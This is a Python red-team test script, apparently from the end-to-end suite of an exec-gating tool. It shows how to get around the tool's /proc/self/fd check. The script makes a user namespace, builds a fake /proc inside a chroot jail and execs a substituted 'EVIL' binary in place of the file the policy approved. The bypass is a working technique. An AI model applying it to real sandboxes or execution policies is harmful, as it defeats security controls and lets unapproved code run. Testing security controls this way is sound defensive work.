"""Red team 3 (tests/e2e/test_attack_query_by_exec3.py): ``/proc/self/fd/N`` through a ``/proc``
of the caller's own making *in the session's mount namespace* (standard library only).

The backstop now trusts ``/proc/self/fd/N`` as "the caller's fd N" only when the caller's mount
namespace is the session's. ``chroot(2)`` changes the caller's root, not its mount namespace:
after it, the kernel resolves ``/proc/self/fd/N`` in JAIL/proc (a plain directory the caller
made), while the backstop's walk still stops at the leading ``proc`` and reads the caller's fd N.
Root chroots as it is; anyone else first makes a user namespace (``unshare(CLONE_NEWUSER)``,
no ``CLONE_NEWNS``: the mount namespace stays the session's), in which it holds CAP_SYS_CHROOT.

Usage:
    python3 qbe_chroot.py --plain FILE NAME EVIL ARGV0 [ARGV1 ...]
        FILE: what fd N is open on (judged); EVIL: what actually runs (copied to JAIL/proc/self/fd/N)
    python3 qbe_chroot.py --asked FILE NAME EVIL ARGV0 ...: first a full request over the session's
        socket for NAME with fd N as its target (as the wrapper sends it: a Run makes the
        backstop expect that file and argv from this process), then the plain exec
    python3 qbe_chroot.py --path FILE NAME EVIL ARGV0 ...: EVIL copied to JAIL/NAME (NAME
        absolute), then the plain exec of NAME by path (FILE unused)
The working directory is kept (no chdir): a relative path in EVIL still reaches it.
Prints ``MNTNS same|other``, then ``EXEC <errno name>`` on failure.
"""

from __future__ import annotations

import ctypes
import errno
import os
import sys

SYS_EXECVE = 59  # x86_64
CLONE_NEWUSER = 0x10000000


def main() -> None:
    mode, file, name, evil, argv = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5:]
    with open(evil, "rb") as f:
        payload = f.read()
    fd = os.open(file, os.O_PATH | os.O_CLOEXEC)
    if mode == "--asked":
        from execgate.wrapper import client
        env = dict(os.environ)
        answer = client.request_decision(client.connect(env), name, argv, env, fd)
        print("ASKED", answer.action, flush=True)
    jail = os.path.abspath(f"jail-{os.getpid()}")
    target = name if mode == "--path" else f"/proc/self/fd/{fd}"
    os.makedirs(os.path.dirname(jail + target))
    with open(jail + target, "wb") as f:
        f.write(payload)
    os.chmod(jail + target, 0o755)
    before = os.stat("/proc/self/ns/mnt").st_ino
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.geteuid(), os.getegid()
    if uid != 0:
        if libc.unshare(CLONE_NEWUSER) != 0:
            print("UNSHARE", errno.errorcode.get(ctypes.get_errno()), flush=True)
            return
        with open("/proc/self/setgroups", "w") as f:
            f.write("deny")
        with open("/proc/self/uid_map", "w") as f:
            f.write(f"{uid} {uid} 1")
        with open("/proc/self/gid_map", "w") as f:
            f.write(f"{gid} {gid} 1")
    print("MNTNS", "same" if os.stat("/proc/self/ns/mnt").st_ino == before else "other", flush=True)
    if libc.chroot(jail.encode()) != 0:
        print("CHROOT", errno.errorcode.get(ctypes.get_errno()), flush=True)
        return
    cargv = (ctypes.c_char_p * (len(argv) + 1))(*[a.encode() for a in argv], None)
    env = [f"{k}={v}".encode() for k, v in os.environ.items()]
    envp = (ctypes.c_char_p * (len(env) + 1))(*env, None)
    libc.syscall.restype = ctypes.c_long
    sys.stdout.flush()
    libc.syscall(ctypes.c_long(SYS_EXECVE), target.encode(), cargv, envp)
    print("EXEC", errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno()), flush=True)


if __name__ == "__main__":
    main()
